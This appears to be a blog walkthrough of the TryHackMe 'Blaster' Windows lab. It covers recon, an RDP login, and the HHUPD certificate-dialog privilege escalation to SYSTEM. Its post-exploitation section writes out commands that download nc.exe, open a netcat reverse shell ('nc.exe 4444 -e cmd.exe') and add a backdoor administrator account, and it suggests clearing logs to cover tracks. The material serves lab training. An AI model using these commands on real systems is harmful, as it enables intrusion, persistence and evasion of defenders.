TryHackMe "Blaster" Windows Challenge Without Metasploit - Privesc Edition

Blaster is one of the more fun machines I've done lately from TryHackMe.  DarkStar has built a machine that has one of the coolest exploits I've seen in a while, and it makes you scratch your head wondering how the person who discovered it actually discovered it.  The steps in the room were modified to include an exploitation path Isuggested via the Metasploit web_delivery module, however this guide will use a separate method that doesn't include using Metasploit.  Blaster is a FREE room, and you can get checked in over at Once you've done that, we can get started.


Conducting our quick Nmap scan of the machine (remember to use the -Pn flag here as it doesn't respond to pings) shows that only a couple of ports are open.

nmap -Pn

So we have a web server and remote desktop running.  Let's get some more information using the -A scan.
nmap -A -Pn -p80,3389

So as we can see, there isn't a whole lot going on.  If we are following the guide, you can answer question #1 at this point.  Port 80 returns some information about the underlying web server, which we can use to glean the answer to #2.When we head to the address, however, we notice that allwe get is a default IIS web server page, which isn't exactly what we expected.  However, we can run Gobuster to see if we can locate any subdirectories.  This turns out to be successful.
./gobuster dir -u -w /root/Desktop/directories/directory-list-lowercase-2.3-small.txt -t 100

We are able to locate the /retro directory, which we can use to answer #3.  We can then check out that page on the website, which we find is a page to "Retro Fanatics"(which is actually a really cool page for this project - great job!).  Right away we are met what could be the answer to #4.  Enter it and see if it works.

 Retro Fanatics webpage

If we read through the page we can catch some blasts from the past about video games, as well as a clue about a possible password to use with the name we found.
Possible Clue for User PasswordIf we use our Google Fu, we can determine the name of the person he has a connection to.  This could be the possible password.  Enter it into Question #5 and see.

Character Name


As you see, this character was the correct answer.  We can now use the username and password we have discovered to login to the machine using Remote Desktop.  I used xfreerdp in this instance, however you can use whichever method you prefer.
xfreerdp /u:redacted /p:redacted /v:

 Successfully Logged In

Now that we are logged in we can see the user.txt flag on the Desktop.  Open that and grab the answer to #6.
user.txt flag on Desktop

 We can now move on to Task 3 in the room, which first suggests that we should check out the machine to see if we can find any information about what they were doing.  If we poke around in the browser's history we can grab the answer to #1.

User's browser history

Additionally, we could see before that there was something in the recycling bin.  Let's check that out.
Recycling Bin contentsWe can drag the contents to the Desktop to use them, as well as answer question #2.  Researching the combination of the CVE we found in the history and HHUPD, we can determine that there is a really interesting exploit we can use to elevate our privileges to administrator.  It will be easier to follow along via pictures.  Where you see a red box, you should click that link with your mouse and follow the next image.  Start by double clicking HHUPD to run it.

Click Show more details

 Click Show information about the publisher's certificate

Click VeriSign Commercial Software Publishers CA

What is going on here is that there is a vulnerability in the software where it runs using system privileges.  When you are clicking these links, it is as if the system authority is functioning.  Clicking the Certificate link above, it is actually the system authority opening the browser here.  Click ok and exit out of everything, and you will see a Internet Explorer open up. You want to press "Alt" to get the program menu bar to pop up, and click Save as...
Clicking save as

Clicking save as will show you an error message that says the location is not available.  This is expected, and you can ignore it by pressing ok.
Expected error message

 This is the moment my mind was absolutely blown.  If you enter cmd.exe in the address bar of the save as window, you are able topull a command prompt, which is actually running as the system authority.

Enter cmd.exe in the address bar

whoami nt authority\system

 If you would like, you can navigate to C:\Users\Administrator\Desktop directory and grab the root.txt flag.

root.txt flag on the Administrator's Desktop
At this point in the challenge you should be on Task 4, where you will be asked to use the Metasploit module "web_delivery."  By setting the target to 2 (set target 2), as well as using the windows/meterpreter/reverse_tcp payload, you are able to grab a reverse shell by copying the output from the exploit into your elevated command prompt and running it.  As this is a no-Metasploit version of the Room, this is where I will leave you to successfully gain control of the machine.

If your goal was to grab flags and complete the challenge, congratulations!  You're there.  However, as post-exploitation is something typically ignored in CTF events, I am including these in my guides from now on.  If you are not interested, thanks for stopping in, I hope my guide has been helpful, and I'll see you next time!  If you are interested, please continue reading on.

Post Exploitation

Post exploitation persistence and control of this machine is pretty straight forward.  The machine itself is running Windows Defender which won't allow us to upload any payloads to the machine outright.  However, what we can do is add users if we choose, as well as transfer a Netcat binary to the machine to allow us localized control.

Left -powershell -c wget "" -outfile "nc.exe" Right - python -m SimpleHTTPServer 8080

 Right - nc -nlvp 4444 ; Left - nc.exe 4444 -e cmd.exeLet's get a new user created, and add them to the Administrator's group, giving us full control of the machine, bypassing the lack of a password for the Administrator, and allowing us to RDP in with our own account.
net user themayor passredacted /add ; net localgroup "Administrators" themayor /add ; net users to confirm

Now that we have ensured persistence on the machine, we can use our new account to log in ourselves.  I used xfreerdp, but you can use whatever you would like.
Desktop access via xfreerdp and Server Manager control

We now have complete control of the machine and the server manager environment.  We can quickly confirm this by going to Tools -> Computer Management and clicking on Local Users and Groups.  We will see that we are in the Administrators group.  This would be game over for a real world engagement, and we would need to review our rules of engagement to consider our next steps and most likely contact our client to inform them ofthe critical nature of the exploit.

Our user in the Administrator's group

If we were in a Red Team type engagement, and somehow have not been identified yet by the security team, we could change the Administrator's password, log back in with that account, and conduct cleanup operations in the logs to erase our tracks.  I encourage you to take this path on your own and see how much you can learn by manipulating these privileges and logs.

Final Thoughts

Overall Blaster is an incredibly great machine with an awesome path to system authority.  Privilege escalation came naturally with the exploit this time around, however our post-exploitation tasks are up to us.  I hope this guide has helped you out with Blaster and given you a better understanding of post exploitation, and I will see you againsoon!


Jesus Chambi said…in the room, the browsing historyno longer exists

Popular Posts